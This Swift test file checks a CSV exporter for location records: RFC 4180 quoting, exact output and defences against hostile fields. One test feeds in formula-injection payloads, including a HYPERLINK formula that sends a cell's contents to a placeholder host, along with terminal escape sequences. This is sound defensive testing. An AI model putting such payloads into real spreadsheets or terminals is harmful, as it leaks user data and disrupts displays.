@_spi(Programs) import LocationModel
import Testing

@testable import LocationFormats

struct CSVTests {
    /// Rows of fields as RFC 4180 reads them.
    private func rows(_ text: String) throws -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = ""
        var isQuoted = false
        var rest = Array(text.unicodeScalars)[...]
        while let scalar = rest.popFirst() {
            switch scalar {
            case "\"" where isQuoted && rest.first == "\"":
                rest.removeFirst()
                field.unicodeScalars.append(scalar)
            case "\"": isQuoted.toggle()
            case _ where isQuoted: field.unicodeScalars.append(scalar)
            case ",":
                row.append(field)
                field = ""
            case "\r":
                try #require(rest.popFirst() == "\n")
                rows.append(row + [field])
                (row, field) = ([], "")
            default: field.unicodeScalars.append(scalar)
            }
        }
        #expect(field.isEmpty && row.isEmpty && !isQuoted)
        return rows
    }

    private func text(_ locations: [Location]) -> String {
        let table = CSVTable()
        return table.opening + locations.map { table.record(for: $0) }.joined() + table.closing
    }

    @Test func tableIsWrittenByteByByte() throws {
        let expected =
            "timestamp,latitude_deg,longitude_deg,horizontalAccuracy_m,ellipsoidalAltitude_m,verticalAccuracy_m,"
            + "speedAccuracy_m_per_s,courseAccuracy_deg,climbAccuracy_m_per_s,altitude_m,speed_m_per_s,course_deg,"
            + "climb_m_per_s,magneticVariation_deg,hdop,vdop,pdop,mode,augmentation,satellitesUsed,"
            + "monotonicTime_s,sequence,source,device,isSimulated,isReplayed,method,"
            + "geoidSeparation_m,accuracyBasis,semiMajorAxis_m,semiMinorAxis_m,orientation_deg,isStandardDeviation,"
            + "timestampImplausible,implausible,basis\r\n"
            + "2026-03-01T12:00:00.250Z,52.5163,13.3777,2.5,73.7,4.25,0.5,3,0.25,34.2,5.25,271.5,-0.125,4.5,0.9,1.3,1.6,"
            + "threeDimensional,dgps,9,100,4711,gpsd,/dev/ttyACM0,false,false,gnss,,,,,,,,,\r\n"
            + ",0,-180,,,,,,,,,,,,,,,twoDimensional,,,,,gpsd,,false,false,gnss,,,,,,,,,\r\n"
        #expect(text([try Sample.full(), try Sample.bare(-0.0, -180)]) == expected)
    }

    @Test func fieldsThatWouldEndEarlyAreQuoted() throws {
        var location = try Sample.bare()
        location.source = SourceInformation(name: "a,\"b\"\r\nc", device: "\n")
        let table = try rows(text([location]))
        #expect(table.count == 2)
        #expect(table[1].suffix(14).prefix(5) == ["a,\"b\"\\u{d}\\u{a}c", "\\u{a}", "false", "false", "gnss"])
    }

    /// A name that a spreadsheet takes for a formula is text, and one with escape sequences harms no terminal; numbers
    /// are numbers.
    @Test(arguments: [
        (#"=HYPERLINK("http://x/"&A1,"y")"#, #"'=HYPERLINK("http://x/"&A1,"y")"#), ("+1", "'+1"), ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"), (" =1", "' =1"), ("＝1", "'＝1"), ("\t=1", "\\u{9}=1"), ("\r=1", "\\u{d}=1"),
        ("a\u{1B}]0;b\u{7}\u{9B}2J\u{202E}", "a\\u{1b}]0;b\\u{7}\\u{9b}2J\\u{202e}"), ("gps-1", "gps-1"), ("", ""),
        ("'", "'"),
    ])
    func textOfOthersIsText(name: String, expected: String) throws {
        var location = try Sample.bare(-12.5, -7.25)
        location.source = SourceInformation(name: name, device: name)
        let text = text([location])
        #expect(text.unicodeScalars.allSatisfy { $0 == "\r" || $0 == "\n" || !$0.isUnprintable })
        let row = try rows(text)[1]
        #expect(row.suffix(14).prefix(2) == [expected, expected])
        #expect(Array(row[1...2]) == ["-12.5", "-7.25"])
    }

    @Test(arguments: Sample.absurdNumbers)
    func everyRowHasAsManyFieldsAsTheHeader(number: Double) throws {
        let table = try rows(text([try Sample.absurd(number), try Sample.bare(), try Sample.full()]))
        #expect(table.count == 4)
        #expect(table.allSatisfy { $0.count == table[0].count })
        #expect(!table[1].contains { Double($0)?.isFinite == false })
        #expect(Double(table[1][9]) == (number.isFinite ? number : nil))
    }
}
